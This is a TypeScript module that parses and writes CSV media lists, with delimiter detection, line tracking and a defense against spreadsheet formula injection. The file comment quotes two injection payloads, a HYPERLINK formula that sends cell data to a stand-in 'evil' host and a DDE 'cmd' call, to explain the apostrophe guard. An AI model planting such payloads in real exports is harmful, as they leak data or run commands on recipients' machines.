/**
 * CSV for media-list import and export: the one place that uses `csv-parse`
 * and `csv-stringify`. What it adds to them is what a press office's files
 * need:
 *
 * - Delimiter: European Excel writes ";" (the decimal comma takes ","), so
 *   without an explicit delimiter the header record decides: it is read with
 *   ",", ";" and TAB, and the one giving the most columns wins ("," on a tie).
 *   Excel's "sep=;" first line names the delimiter and is not data.
 * - A UTF-8 byte order mark (which Excel needs to read UTF-8) is skipped.
 * - CRLF, LF and a lone CR (old Mac Excel) all end a record, mixed in one file;
 *   line breaks inside quotes are kept as written.
 * - Line numbers: each row carries the physical line on which it starts, so
 *   the import report points into the file as an editor shows it.
 * - A quote inside an unquoted value (`5" floppy`) and text after a closing
 *   quote (`"abc"def`, kept as written) are read, not refused; a quoted value
 *   that is never closed is an error naming the line where it opens, because
 *   every later column would be wrong.
 * - Completely empty lines are skipped; rows keep the number of values they
 *   have (no padding), so the caller can report short or long rows.
 *
 * Formula injection (CSV injection, OWASP): a spreadsheet treats a cell that
 * starts with = + - @ (TAB or CR before them in some programs, and their
 * full-width forms in Apple Numbers) as a formula, so a journalist's "name" of
 * `=HYPERLINK("http://evil/?"&A1,"x")` or `=cmd|' /C calc'!A0` would run in
 * the press officer's Excel when they open an export. `toCsv` therefore
 * prefixes such a cell with an apostrophe, the spreadsheet convention for
 * "this is text". csv-stringify's own `escape_formulas` does the same for the
 * first character only; to keep export → import lossless we also prefix a cell
 * that already starts with apostrophes followed by one of those characters,
 * and `parseCsv` removes exactly one leading apostrophe from such a cell
 * (which also cleans `'+41 78 …` typed by people who know the trick).
 */
import { once } from 'node:events';
import { parse as createCsvParser, CsvError, type Options as CsvParseOptions } from 'csv-parse';
import { parse as parseCsvText } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { AppError } from '../errors';

export type CsvDelimiter = ',' | ';' | '\t';

export interface ParseCsvOptions {
  /** Field separator; detected from the header record when omitted. */
  delimiter?: CsvDelimiter;
  /** Keep the apostrophe of formula-guarded cells (`'=1+1`) instead of removing it. */
  keepFormulaGuards?: boolean;
}

export interface ParsedCsv {
  /** The first record, each name trimmed; empty when the text has no records. */
  header: string[];
  /** Every later record that is not an empty line. */
  rows: CsvRow[];
  /** The separator used, detected or given. */
  delimiter: CsvDelimiter;
}

export interface CsvRow {
  /** 1-based physical line on which the record starts. */
  line: number;
  values: string[];
}

export interface ToCsvOptions {
  /** Field separator; "," unless the file is meant for a ";" locale. */
  delimiter?: CsvDelimiter;
  /**
   * Start with U+FEFF. Excel on Windows reads a CSV without it in the local
   * ANSI code page, turning "Müller" into "MÃ¼ller"; downloads meant for
   * spreadsheets should set it.
   */
  byteOrderMark?: boolean;
}

const FORMULA_START = '[=+\\-@\\t\\r\\uFF1D\\uFF0B\\uFF0D\\uFF20]';
/** Cells a spreadsheet would read as a formula (OWASP CSV injection), behind any apostrophes. */
const FORMULA_GUARD_NEEDED = new RegExp(`^'*${FORMULA_START}`);
/** A cell `toCsv` (or a careful person) guarded: one apostrophe too many. */
const FORMULA_GUARDED = new RegExp(`^'+${FORMULA_START}`);

/** "sep=;" (or "," or TAB) alone on the first line, as Excel writes and reads it. */
const SEPARATOR_HINT = /^sep=([,;\t])(?:\r\n|\r|\n|$)/i;
const DELIMITERS: readonly CsvDelimiter[] = [',', ';', '\t'];

/**
 * Characters handed to the parser at a time by parseCsvInSlices; each slice
 * is parsed in one go (a few milliseconds), then other requests get a turn.
 */
const SLICE_LENGTH = 16 * 1024;
/** The header record is looked for in this much of the text when detecting the delimiter. */
const HEADER_SAMPLE_LENGTH = 64 * 1024;

/**
 * Parses CSV text into a header and rows.
 *
 * Guarantees: `rows[i].line` is the 1-based physical line on which the record
 * starts (line breaks inside quoted values count, CRLF counts once); values
 * are exactly as written except that doubled quotes become one, the enclosing
 * quotes go, and one formula-guard apostrophe is removed (see the file
 * comment); `parseCsv(toCsv(header, rows))` gives back `header` and `rows`,
 * with null and undefined as "", header names trimmed, and a row that is one
 * empty value (which is an empty line) left out.
 *
 * Throws `AppError('VALIDATION_FAILED')` with `details.line` when a quoted
 * value is never closed.
 */
export function parseCsv(text: string, options: ParseCsvOptions = {}): ParsedCsv {
  const { source, delimiter, reader } = prepareCsv(text, options);
  let records: CsvRow[];
  try {
    records = parseCsvText(source, { ...parserOptions(delimiter), on_record: reader.onRecord }) as unknown as CsvRow[];
  } catch (error) {
    throw reader.explain(error);
  }
  return collectParsedCsv(records, delimiter);
}

/**
 * parseCsv for large files in the server process: the same result, parsed in
 * slices of SLICE_LENGTH with `pause` (see common/yield-to-event-loop.ts)
 * called once per record, so other requests run in between; `onRecord` is
 * told every 1,000 records how many were read.
 */
export async function parseCsvInSlices(
  text: string,
  options: ParseCsvOptions & { pause: () => Promise<void>; onRecord?: (count: number) => void; sliceLength?: number },
): Promise<ParsedCsv> {
  const { source, delimiter, reader } = prepareCsv(text, options);
  const parser = createCsvParser({ ...parserOptions(delimiter), on_record: reader.onRecord });
  // Slices go in one at a time, each once the records of the last were read:
  // a stream that has been ended (or given all its input at once) transforms
  // whatever it holds in one go.
  const sliceLength = options.sliceLength ?? SLICE_LENGTH;
  const feeding = (async () => {
    for (let start = 0; start < source.length; ) {
      let end = Math.min(start + sliceLength, source.length);
      // Never split a surrogate pair: each slice becomes UTF-8 on its own.
      if (isHighSurrogate(source.charCodeAt(end - 1)) && end < source.length) end += end - 1 > start ? -1 : 1;
      if (!parser.write(source.slice(start, end))) await once(parser, 'drain');
      start = end;
    }
    parser.end();
  })();
  // A parse error ends the feeding too; the loop below reports it.
  feeding.catch(() => undefined);
  const records: CsvRow[] = [];
  try {
    for await (const record of parser as AsyncIterable<CsvRow>) {
      records.push(record);
      if (records.length % 1_000 === 0) options.onRecord?.(records.length);
      await options.pause();
    }
  } catch (error) {
    throw reader.explain(error);
  }
  await feeding;
  return collectParsedCsv(records, delimiter);
}

function collectParsedCsv(records: CsvRow[], delimiter: CsvDelimiter): ParsedCsv {
  const [headerRecord, ...rows] = records;
  return { header: (headerRecord?.values ?? []).map((name) => name.trim()), rows, delimiter };
}

/**
 * Lenient where files in the wild disagree with RFC 4180 (see the file
 * comment). Empty lines come through (as one empty value) so that every line
 * of the file passes the line counter; the record reader drops them.
 */
function parserOptions(delimiter: CsvDelimiter): CsvParseOptions {
  return {
    delimiter,
    record_delimiter: ['\r\n', '\n', '\r'],
    relax_quotes: true,
    relax_column_count: true,
    skip_empty_lines: false,
    raw: true,
  };
}

function prepareCsv(text: string, options: ParseCsvOptions) {
  const withoutMark = text.charCodeAt(0) === 0xfeff ? text.slice(1) : text;
  const separatorHint = SEPARATOR_HINT.exec(withoutMark);
  const source = separatorHint ? withoutMark.slice(separatorHint[0].length) : withoutMark;
  const delimiter = options.delimiter ?? (separatorHint?.[1] as CsvDelimiter | undefined) ?? detectDelimiter(source);
  const reader = createRecordReader(separatorHint ? 2 : 1, options.keepFormulaGuards ? (value) => value : removeFormulaGuard);
  return { source, delimiter, reader };
}

/**
 * Turns the parser's `{ record, raw }` into rows with their starting line
 * (null for an empty line, which the parser then leaves out), and explains a
 * parser error with the line where the failing record starts.
 *
 * Lines are counted in each record's raw text because csv-parse's own
 * `info.lines` counts a CRLF inside quotes twice. Its raw text of a record
 * ended by CRLF ends with the CR alone; either way the end counts as one break.
 */
function createRecordReader(firstLine: number, unguard: (value: string) => string) {
  let line = firstLine;
  return {
    onRecord: ((parsed: { record: string[]; raw: string }): CsvRow | null => {
      const start = line;
      line += countLineBreaks(parsed.raw);
      const isEmptyLine = parsed.record.length === 1 && parsed.raw.replace(/[\r\n]+$/, '') === '';
      return isEmptyLine ? null : { line: start, values: parsed.record.map(unguard) };
    }) as unknown as CsvParseOptions['on_record'],
    explain(error: unknown): unknown {
      if (!(error instanceof CsvError)) return error;
      const message = error.code === 'CSV_QUOTE_NOT_CLOSED' ? 'a quoted value is never closed' : error.message;
      return new AppError('VALIDATION_FAILED', `Line ${line}: ${message}`, { details: { line } });
    },
  };
}

/** CRLF counts as one break, like a lone CR or LF. */
function countLineBreaks(text: string): number {
  return text.match(/\r\n|\r|\n/g)?.length ?? 0;
}

/**
 * Reads the header record with each candidate delimiter and keeps the one that
 * gives the most columns; "," on a tie or for a one-column file.
 */
function detectDelimiter(source: string): CsvDelimiter {
  // Only the start: csv-parse reads all of its input even when asked for one record.
  const sample = source.slice(0, HEADER_SAMPLE_LENGTH);
  let best: { delimiter: CsvDelimiter; columns: number } = { delimiter: ',', columns: 1 };
  for (const delimiter of DELIMITERS) {
    let columns = 1;
    try {
      columns = parseCsvText(sample, { ...parserOptions(delimiter), raw: false, to: 1 })[0]?.length ?? 1;
    } catch {
      // A header that does not read with this delimiter is not split by it.
    }
    if (columns > best.columns) best = { delimiter, columns };
  }
  return best.delimiter;
}

/**
 * Writes CSV: one record per line, CRLF line ends (RFC 4180) including after
 * the last record. A value is quoted when it contains a quote (doubled), a
 * delimiter (",", ";" or TAB, so it also survives a spreadsheet that guesses
 * the other separator), a line break, or white space at either end; null and
 * undefined are empty. Cells a spreadsheet would run as a formula get a
 * leading apostrophe (see the file comment); `parseCsv` removes it again.
 */
export function toCsv(
  header: readonly string[],
  rows: readonly (readonly (string | null | undefined)[])[],
  options: ToCsvOptions = {},
): string {
  return stringify([header, ...rows] as (string | null | undefined)[][], {
    delimiter: options.delimiter ?? ',',
    record_delimiter: 'windows',
    bom: options.byteOrderMark ?? false,
    cast: { string: (value) => (FORMULA_GUARD_NEEDED.test(value) ? `'${value}` : value) },
    quoted_match: /[,;\t\r\n]|^\s|\s$/,
  });
}

function isHighSurrogate(code: number): boolean {
  return code >= 0xd800 && code <= 0xdbff;
}

function removeFormulaGuard(value: string): string {
  return FORMULA_GUARDED.test(value) ? value.slice(1) : value;
}
